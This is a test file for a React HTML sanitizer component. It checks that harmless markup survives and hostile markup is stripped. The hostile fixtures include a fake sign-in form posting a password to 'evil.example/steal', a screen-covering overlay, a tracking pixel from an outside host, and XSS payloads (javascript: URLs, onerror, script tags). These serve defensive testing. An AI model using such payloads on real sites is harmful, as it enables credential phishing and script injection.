import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { SafeHtml } from './safe-html';

const shown = (html: string) => render(<SafeHtml html={html} className="rich" />).container.firstElementChild!;

describe('operator HTML', () => {
  it('keeps the text, lists, tables, links and own images content needs', () => {
    const box = shown(
      '<p><strong>ฝ่ายบริการ</strong> <a href="https://line.me/ti/p/x">LINE</a></p><ul><li>หนึ่ง</li></ul><table><tr><td colspan="2">1</td></tr></table>' +
        '<img src="/play/logo/PG.svg" alt="PG"><img src="data:image/png;base64,iVBORw0KGgo=" alt="qr">',
    );
    expect(box.querySelector('strong')).toHaveTextContent('ฝ่ายบริการ');
    expect(box.querySelector('a')).toHaveAttribute('href', 'https://line.me/ti/p/x');
    expect(box.querySelector('a')).toHaveAttribute('rel', 'noopener noreferrer');
    expect(box.querySelector('li')).toHaveTextContent('หนึ่ง');
    expect(box.querySelector('td')).toHaveAttribute('colspan', '2');
    expect([...box.querySelectorAll('img')].map((i) => i.getAttribute('alt'))).toEqual(['PG', 'qr']);
  });

  it('drops a full-screen fixed overlay’s styling, keeping only its text', () => {
    const box = shown(
      '<div style="position:fixed;inset:0;z-index:99999;background:#fff" class="modal-backdrop" id="x">Your session expired</div><style>body{display:none}</style>',
    );
    expect(box).toHaveTextContent('Your session expired');
    expect(box.querySelector('[style], [class], [id], style')).toBeNull();
  });

  it('drops forms and controls, so nothing can ask for a password and post it elsewhere', () => {
    const box = shown(
      '<form action="https://evil.example/steal" method="post"><p>Sign in again</p><input name="password" type="password"><textarea></textarea><select><option>1</option></select><button formaction="https://evil.example">OK</button></form>',
    );
    expect(box.querySelector('form, input, textarea, select, option, button')).toBeNull();
    expect(box.innerHTML).not.toContain('evil.example');
  });

  it('drops images from other hosts, scripts and handlers', () => {
    const box = shown(
      '<img src="https://evil.example/pixel.gif" alt="track"><img src="//evil.example/x.png" alt="proto"><img src="javascript:alert(1)" alt="js"><img src="x" onerror="alert(1)" alt="own"><script>alert(1)</script><a href="javascript:alert(1)">x</a>',
    );
    expect([...box.querySelectorAll('img')].map((i) => i.getAttribute('alt'))).toEqual(['own']);
    expect(box.querySelector('[onerror], script')).toBeNull();
    expect(box.querySelector('a')?.getAttribute('href') ?? null).toBeNull();
  });
});
